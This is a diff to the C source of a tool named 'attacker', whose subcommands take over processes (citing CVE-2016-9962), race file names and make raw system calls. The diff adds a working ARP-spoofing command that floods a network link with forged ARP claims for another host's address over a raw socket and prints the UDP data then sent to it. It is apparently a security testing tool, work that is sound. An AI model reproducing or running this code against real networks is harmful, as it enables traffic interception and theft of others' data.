@@ -5,6 +5,7 @@
 //   attacker trace SECONDS NAME…       waits for who enters, to look into him and to take him over (CVE-2016-9962)
 //   attacker swap PATH PATH            exchanges two names for ever, for whoever looks at the one and uses the other
 //   attacker call NUMBER[:ARGUMENT…]…  makes system calls, and prints what the kernel answered, a line for each
+//   attacker spoof LINK ADDRESS        tells everybody on LINK that ADDRESS is here, and prints what is then sent to it
 //
 // Who enters has a name of his own: processes called NAME are not meant. What was got of him is printed as "got …", each
 // thing once. What is written over a program are the bytes it begins with anyway.
@@ -13,7 +14,11 @@
 
 #include <linux/fcntl.h>
 #include <linux/fs.h>
+#include <linux/if_ether.h>
+#include <linux/if_packet.h>
+#include <linux/poll.h>
 #include <linux/ptrace.h>
+#include <linux/sockios.h>
 #include <linux/time.h>
 #include <linux/uio.h>
 #include <linux/wait.h>
@@ -139,6 +144,70 @@ static int wait_for(const char *(*attack)(i64, const char *), i64 span, char **k
   return 0;
 }
 
+// ---- somebody else's address
+
+// What Ethernet begins every packet with: for whom, from whom, and what is in it. Then ARP (RFC 826): a question that names
+// the asker. Who hears it notes where he is, since he is going to be asked for the answer.
+struct claim {
+  u8 to[6], from[6], kind[2];
+  u8 hardware[2], protocol[2], lengths[2], question[2];
+  u8 sender[6], sender_address[4], target[6], target_address[4];
+};
+
+static void write_claim(struct claim *claim, const u8 *mac, const u8 *address) {
+  *claim = (struct claim){.kind = {0x08, 0x06}, .hardware = {0, 1}, .protocol = {0x08, 0}, .lengths = {6, 4}, .question = {0, 1}};
+  memset(claim->to, 0xff, 6);
+  memcpy(claim->from, mac, 6);
+  memcpy(claim->sender, mac, 6);
+  memcpy(claim->sender_address, address, 4);
+  memcpy(claim->target_address, address, 4);
+}
+
+// Of a packet of UDP to the address, what is in it: it begins behind Ethernet's 14 bytes, IP's 20 and UDP's 8.
+static void tell(u8 *packet, i64 count, const u8 *address) {
+  if (count <= 42 || packet[12] != 0x08 || packet[13] != 0 || packet[23] != 17) return;
+  for (u32 n = 0; n < 4; n++)
+    if (packet[30 + n] != address[n]) return;
+  i64 end = 42;
+  while (end < count && packet[end] >= ' ') end++;
+  packet[end] = 0;
+  say("got ", (char *)packet + 42);
+}
+
+static int spoof(const char *link, const char *text) {
+  u8 address[4], packet[2048];
+  struct claim claim;
+  struct {
+    char name[16];
+    union {
+      i32 index;
+      u8 mac[24];
+    };
+  } asked = {0};
+  append(asked.name, link);
+  parse_address(text, address);
+  i64 fd = sys(__NR_socket, 17 /* AF_PACKET */, 3 /* SOCK_RAW */, 0x0300 /* ETH_P_ALL, its first byte first */);
+  if (fd < 0) {
+    *decimal((char *)packet, (u64)-fd, 1) = 0;
+    say("no socket for raw packets: error ", (char *)packet);
+    return 1;
+  }
+  if (sys(__NR_ioctl, fd, SIOCGIFHWADDR, &asked) < 0) return 1;
+  // Two bytes of it say what kind of address follows.
+  write_claim(&claim, asked.mac + 2, address);
+  if (sys(__NR_ioctl, fd, SIOCGIFINDEX, &asked) < 0) return 1;
+  struct sockaddr_ll on = {.sll_family = 17, .sll_protocol = 0x0300, .sll_ifindex = asked.index};
+  if (sys(__NR_bind, fd, &on, sizeof on) < 0) return 1;
+  // Again and again: the other one answers for itself whenever it is asked.
+  for (;;) {
+    struct pollfd poll = {.fd = (int)fd, .events = POLLIN};
+    struct __kernel_timespec tenth = {.tv_nsec = 100000000};
+    sys(__NR_sendto, fd, &claim, sizeof claim, 0, 0, 0);
+    if (sys(__NR_ppoll, &poll, 1, &tenth, 0, 0) <= 0) continue;
+    tell(packet, sys(__NR_read, fd, packet, sizeof packet - 1), address);
+  }
+}
+
 // ---- the rest
 
 static int swap(const char *left, const char *right) {
@@ -174,5 +243,6 @@ int main(int argc, char **argv, char **envp) {
   if (equal(argv[1], "trace")) return wait_for(trace, number(argv[2]), argv + 3);
   if (equal(argv[1], "swap") && argc == 4) return swap(argv[2], argv[3]);
   if (equal(argv[1], "call")) return call(argv + 2);
+  if (equal(argv[1], "spoof") && argc == 4) return spoof(argv[2], argv[3]);
   return 2;
 }
